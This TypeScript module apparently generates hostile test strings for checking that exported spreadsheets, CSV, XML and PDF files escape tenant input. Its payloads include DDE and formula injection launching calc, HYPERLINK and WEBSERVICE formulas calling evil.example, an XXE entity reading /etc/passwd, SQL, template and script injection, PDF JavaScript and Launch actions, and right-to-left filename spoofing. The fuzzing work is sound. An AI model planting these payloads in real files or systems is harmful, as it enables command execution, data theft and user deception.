/** What tenants may send to harm whoever opens a file, or that readers stumble over; all different, always the same. */
export function hostileStrings(): string[] {
  const all = [
    ...formulas(),
    ...separators(),
    ...markup(),
    ...pdfSyntax(),
    ...codePoints(),
    ...directions(),
    ...long(),
    ...numbersAndDates(),
  ];
  return [...new Set(all)];
}

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
];
const PAYLOADS = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
  'WEBSERVICE("http://evil.example/")',
  'IMPORTXML("http://evil.example/","//a")',
  'DDE("cmd";"/C calc";"x")',
  'A1*(-1)',
  '[1]Sheet1!A1',
  "'file:///etc/passwd'#$Sheet1.A1",
  '"',
  '',
];

function formulas(): string[] {
  return STARTS.flatMap((start) => PAYLOADS.map((payload) => start + payload));
}

function separators(): string[] {
  const signs = [
    ',',
    ';',
    '\t',
    '|',
    '"',
    "'",
    '\r',
    '\n',
    '\r\n',
    '""',
    '",',
    ',"',
    '"\r\n"',
    '\u2028',
    '\u2029',
    '\u0085',
    '\v',
    '\f',
  ];
  return signs.flatMap((sign) => [sign, `a${sign}b`, `${sign}=1+1`, `a${sign}=1+1`, `"${sign}"`]);
}

function markup(): string[] {
  return [
    '<b>&amp;</b>',
    '&',
    '<',
    '>',
    ']]>',
    '<![CDATA[x]]>',
    '<!--',
    '-->',
    '<?xml version="1.0"?>',
    '&#0;',
    '&lt;',
    '&bogus;',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    '<f>1+1</f>',
    '_x0000_',
    '_x000D_',
    '_x0041_',
    '_x005F_',
    '_x005F_x0041_',
    '_X0041_',
    '_x41_',
    '_x0041',
    '__x0041__',
    '<script>alert(1)</script>',
    'javascript:alert(1)',
    'http://evil.example/',
    'mailto:a@evil.example',
    'file:///etc/passwd',
    '\\\\evil.example\\share',
    '{"a":1}',
    '\\u0000',
    '\\',
    '\\"',
    '${7*7}',
    '{{7*7}}',
    '%s%n',
    "'; DROP TABLE x; --",
    '../../etc/passwd',
    '__proto__',
    'constructor',
  ];
}

function pdfSyntax(): string[] {
  return [
    ') Tj',
    ') Tj ET Q',
    '(a) Tj',
    '> Tj <',
    '<41> Tj',
    ']TJ',
    'BT ET',
    'EMC',
    '/JS (app.alert\\(1\\))',
    '/S /JavaScript /JS (x)',
    '<</S/JavaScript/JS(app.alert(1))>>',
    '/OpenAction 1 0 R',
    '/AA <</O 1 0 R>>',
    '/URI (http://evil.example/)',
    '/Launch /F (calc.exe)',
    'endstream endobj',
    '1 0 obj',
    'stream',
    'trailer',
    '%%EOF',
    '%PDF-1.7',
    'xref',
    'startxref 0',
    '\\)',
    '\\(',
    '\\\\)',
    '<<',
    '>>',
  ];
}

/** Controls, non-characters, halves of pairs, and characters that programs count differently. */
function codePoints(): string[] {
  const controls = Array.from({ length: 32 }, (_value, code) => `a${String.fromCharCode(code)}b`);
  const first = Array.from({ length: 32 }, (_value, code) => `${String.fromCharCode(code)}=1`);
  const others = [
    0x7f, 0x80, 0x9f, 0xad, 0xfffd, 0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0x10ffff, 0xe000, 0xf8ff, 0xe0001,
    0x200d, 0x2060, 0xfe0f,
  ];
  const halves = [
    '\ud800',
    '\udfff',
    'a\ud800',
    '\udc00b',
    '\ud800\ud800',
    '\udc00\ud800',
    '=\ud800',
    '\ud800=1',
  ];
  const emoji = [
    '😀',
    '👩‍👩‍👧‍👦',
    '🏳️‍🌈',
    '🇩🇪',
    'e\u0301',
    'Z̷̢͎a̴̡l̶̝g̸̰o̵',
    'ﷺ',
    '𝒜𝓃𝒶',
    'ﬀ',
    'İi',
    'ß',
    '１２３',
    '٣',
  ];
  return [
    ...controls,
    ...first,
    ...others.map((code) => `a${String.fromCodePoint(code)}b`),
    ...halves,
    ...emoji,
  ];
}

function directions(): string[] {
  const marks = [
    '\u200e',
    '\u200f',
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u061c',
  ];
  return [
    ...marks.flatMap((mark) => [`${mark}=1+1`, `a${mark}b`, mark, `invoice${mark}gpj.exe`]),
    'مرحبا',
    'שלום (2024) abc',
    'abc שלום 123',
    '\u202eevil\u202c',
    'العَرَبِيَّة',
    'א\u05b0',
    '\u0600123',
    'שלום=1+1',
  ];
}

function long(): string[] {
  const sizes = [255, 256, 32_766, 32_767, 32_768, 40_000];
  return [
    ...sizes.map((size) => 'x'.repeat(size)),
    `=${'1+'.repeat(20_000)}1`,
    '"'.repeat(40_000),
    '😀'.repeat(20_000),
    `a${'😀'.repeat(16_383)}b`,
    '\n'.repeat(33_000),
    '&'.repeat(40_000),
    'שלום '.repeat(8_000),
    '\ud800'.repeat(33_000),
  ];
}

/** Text stays text, whatever a program would make of it. */
function numbersAndDates(): string[] {
  return [
    '00123',
    '1e5',
    '1E400',
    '-0',
    '+49 30 1234',
    '12345678901234567890',
    '0x1F',
    '1,5',
    '1.5',
    '2026-01-31',
    '31/01/2026',
    'MARCH1',
    'SEPT2',
    '12:30',
    'TRUE',
    'FALSE',
    'NULL',
    'null',
    'NaN',
    'Infinity',
    '#N/A',
    '#REF!',
    '#DIV/0!',
    'None',
    '',
    ' ',
    '  leading',
    'trailing  ',
    '(1)',
    '1%',
    '£5',
    '$5',
    '5 €',
  ];
}
